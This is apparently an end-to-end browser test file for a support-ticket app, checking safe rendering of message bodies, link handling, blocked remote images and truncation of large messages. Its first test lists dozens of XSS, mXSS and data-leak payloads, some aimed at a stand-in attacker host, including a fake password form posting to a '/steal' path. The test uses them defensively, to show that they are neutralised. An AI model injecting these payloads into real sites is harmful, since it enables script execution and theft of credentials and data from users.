import { expect, test } from './support/sign-in.ts'
import { message, openTicket, panel } from './support/ticket.ts'

// The page's own content security policy would block most of these too, but messages must be harmless even without it.
test.use({ bypassCSP: true })

const outside = process.env.PULSE_OUTSIDE_URL ?? 'http://attacker.test'
const ran = 'window.__ran=(window.__ran||0)+1'

const attacks = [
  `<script>${ran}</script>`,
  `<SCRIPT SRC=${outside}/x.js></SCRIPT>`,
  `<img src=x onerror="${ran}">`,
  `<img src="x:x" onerror=${ran}>`,
  `<img """><script>${ran}</script>">`,
  `<svg onload="${ran}"></svg>`,
  `<svg><script>${ran}</script></svg>`,
  `<svg><animate onbegin="${ran}" attributeName=x dur=1s></svg>`,
  `<svg><a xlink:href="javascript:${ran}"><text x=20 y=20>svg link</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg' onload='${ran}'/>#x"></svg>`,
  `<math><a xlink:href="javascript:${ran}">math link</a></math>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${ran}&gt;">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror="${ran}">`,
  `<noscript><p title="</noscript><img src=x onerror=${ran}>"></noscript>`,
  `<template><img src=x onerror="${ran}"></template>`,
  `<body onload="${ran}"><p>body</p>`,
  `<div onmouseover="${ran}" style="position:fixed;inset:0">over everything</div>`,
  `<details open ontoggle="${ran}">toggle</details>`,
  `<input autofocus onfocus="${ran}">`,
  `<video><source onerror="${ran}"></video>`,
  `<audio src=x onerror="${ran}"></audio>`,
  `<iframe src="javascript:parent.${ran}"></iframe>`,
  `<iframe srcdoc="<script>parent.${ran}</script>"></iframe>`,
  `<object data="javascript:${ran}"></object><embed src="${outside}/e">`,
  `<meta http-equiv="refresh" content="0;url=${outside}/gone">`,
  `<base href="${outside}/"><a href="relative">based link</a>`,
  `<link rel="stylesheet" href="${outside}/s.css"><link rel=prefetch href="${outside}/p">`,
  `<style>@import url(${outside}/i.css);body{background:url(${outside}/b)}</style>`,
  `<p style="background:url(${outside}/css-leak)">styled</p>`,
  `<style>input[value^="a"]{background:url(${outside}/a)}</style>`,
  `<form action="${outside}/steal"><input name=password type=password><button>Sign in</button></form>`,
  `<a href="javascript:${ran}">script link</a>`,
  `<a href="&#106;avascript:${ran}">entity link</a>`,
  `<a href="jav&#x09;ascript:${ran}">tab link</a>`,
  `<a href=" &#14; javascript:${ran}">blank link</a>`,
  `<a href="vbscript:msgbox(1)">vb link</a>`,
  `<a href="data:text/html,<script>${ran}</script>">data link</a>`,
  `<a href="//attacker.test" target="_self">schemeless link</a>`,
  `[markdown link](javascript:${ran})`,
  `[entity](&#x6A;avascript:${ran})`,
  `![picture](${outside}/tracker.png)`,
  `![x](x"onerror="${ran})`,
  `<img src="${outside}/pixel.gif" srcset="${outside}/set.gif 2x" width=1 height=1>`,
  `<img src="data:image/svg+xml,<svg onload='${ran}'/>">`,
  `<picture><source srcset="${outside}/source.png"><img></picture>`,
  `<table background="${outside}/table.png"><tr><td background="${outside}/td.png">cell</table>`,
  `<p id="root" class="x" name="getElementById">clobbering</p><img name=body>`,
  `<a id=x href="https://example.com" ping="${outside}/ping">pinged link</a>`,
  `<xmp><img src=x onerror="${ran}"></xmp>`,
  `<portal src="${outside}/portal"></portal><marquee onstart="${ran}">m</marquee>`,
  `\`\`\`html\n<script>${ran}</script>\n\`\`\``,
]

test('a message full of attacks is harmless: it runs no script, sends no request, and contains no element capable of doing so', async ({
  page,
}) => {
  test.slow()
  const own = new URL(process.env.PULSE_URL ?? '').origin
  const foreign: string[] = []
  page.on('request', request => {
    const url = request.url()
    if (!url.startsWith(own) && !url.startsWith('data:') && !url.startsWith('blob:')) foreign.push(url)
  })
  const opened: string[] = []
  page.on('dialog', dialog => {
    opened.push(dialog.message())
    void dialog.dismiss()
  })
  page.on('popup', popup => opened.push(popup.url()))

  await openTicket(page, {
    details: { messages: attacks.map(body => message('customer', 'Mallory', body)) },
  })
  const items = panel(page).getByRole('list', { name: 'Conversation' }).getByRole('listitem')
  await expect(items).toHaveCount(attacks.length)
  await expect(items.last()).toContainText('<script>')

  for (const link of await panel(page).locator('ol a:not([data-image])').all())
    if (!(await link.getAttribute('href'))) await link.click({ force: true })
  await items.nth(16).hover()
  await page.keyboard.press('Tab')

  expect(await page.evaluate(() => (window as { __ran?: number }).__ran)).toBeUndefined()
  expect(foreign).toEqual([])
  expect(opened).toEqual([])
  expect(new URL(page.url()).origin).toBe(own)

  const left = await panel(page)
    .locator('ol')
    .evaluate(list => {
      const bodies = [...list.querySelectorAll('li > div')]
      const elements = bodies.flatMap(body => [...(body.firstElementChild?.querySelectorAll('*') ?? [])])
      return {
        tags: [...new Set(elements.map(element => element.localName))].sort(),
        attributes: [...new Set(elements.flatMap(element => element.getAttributeNames()))].sort(),
        links: [
          ...new Set(elements.map(element => element.getAttribute('href')).filter(href => href !== null)),
        ],
        loading: elements.filter(element => element.hasAttribute('src')).length,
      }
    })
  const harmless = 'a b br code div em img p pre span strong table tbody td tr'.split(' ')
  expect(left.tags.filter(tag => !harmless.includes(tag))).toEqual([])
  const known = ['alt', 'data-image', 'data-scrolls', 'href', 'rel', 'target', 'title']
  expect(left.attributes.filter(name => !known.includes(name))).toEqual([])
  expect(left.links.filter(href => !/^https?:\/\//.test(href))).toEqual([])
  expect(left.loading).toBe(0)
})

test('[TICKETS-023] a body is rendered as either markdown or HTML, depending on its content', async ({
  page,
}) => {
  const markdown =
    '# Order\n\n**bold** and _soft_\n\n- one\n- two\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n`code`'
  const html = '<html><body>\n\n    <p>Indented <b>HTML</b></p>\n<ol><li>first</li></ol></body></html>'
  await openTicket(page, {
    details: { messages: [message('agent', 'A', markdown), message('agent', 'B', html)] },
  })
  const body = (index: number) =>
    panel(page).getByRole('list', { name: 'Conversation' }).locator('> li').nth(index)
  await expect(body(0).locator('strong', { hasText: 'bold' })).toBeVisible()
  await expect(body(0).locator('em')).toHaveText('soft')
  await expect(body(0).locator('ul > li')).toHaveText(['one', 'two'])
  await expect(body(0).locator('td')).toHaveText(['1', '2'])
  await expect(body(0).locator('code')).toHaveText('code')
  await expect(body(1).locator('p > b')).toHaveText('HTML')
  await expect(body(1).locator('ol > li')).toHaveText('first')
  await expect(body(1).locator('pre')).toHaveCount(0)
})

test('links open safely; an image from another site is not loaded, and a click opens it in its own tab', async ({
  page,
}) => {
  const picture = 'https://example.com/shot.png'
  let loaded = 0
  await page.context().route('https://example.com/**', route => {
    loaded += 1
    return route.fulfill({ contentType: 'text/html', body: 'The picture' })
  })
  const bodies = [`See https://example.com/help or <mailto:help@example.com>.`, `![A screenshot](${picture})`]
  await openTicket(page, { details: { messages: bodies.map(body => message('customer', 'N', body)) } })
  for (const name of ['https://example.com/help', 'help@example.com']) {
    const link = panel(page).getByRole('link', { name })
    await expect(link).toHaveAttribute('target', '_blank')
    await expect(link).toHaveAttribute('rel', 'noopener noreferrer')
  }
  const held = panel(page).getByRole('link', { name: 'Load image from example.com' })
  await expect(held).toHaveAttribute('title', 'A screenshot')
  expect(loaded).toBe(0)
  const popup = page.waitForEvent('popup')
  await held.click()
  const tab = await popup
  await expect(tab.getByText('The picture')).toBeVisible()
  expect(tab.url()).toBe(picture)
  expect(await tab.evaluate(() => [window.opener, document.referrer])).toEqual([null, ''])
})

for (const [kind, line] of [
  ['markdown', 'A **long** line of _words_ that goes on.\n\n'],
  ['HTML', '<p>A <b>long</b> line of <i>words</i> that goes on.</p>\n'],
  ['hostile markdown', '[[[[((((****____>>>>`~~~~'],
] as const)
  test(`1 MB of ${kind} shows its beginning immediately and the rest on request`, async ({ page }) => {
    const body = `Start. ${line.repeat(Math.ceil(1_000_000 / line.length))} The very end.`
    await openTicket(page, { details: { messages: [message('customer', 'N', body)] } })
    const item = panel(page).getByRole('list', { name: 'Conversation' }).locator('> li')
    await expect(item).toContainText('Start.')
    expect((await item.innerText()).length).toBeLessThan(40_000)
    await item.getByRole('button', { name: 'Show full message (1.0 MB)' }).click()
    await expect(item).toContainText('The very end.')
    await panel(page).getByRole('button', { name: 'Close ticket' }).click()
    await expect(panel(page)).toHaveCount(0)
  })
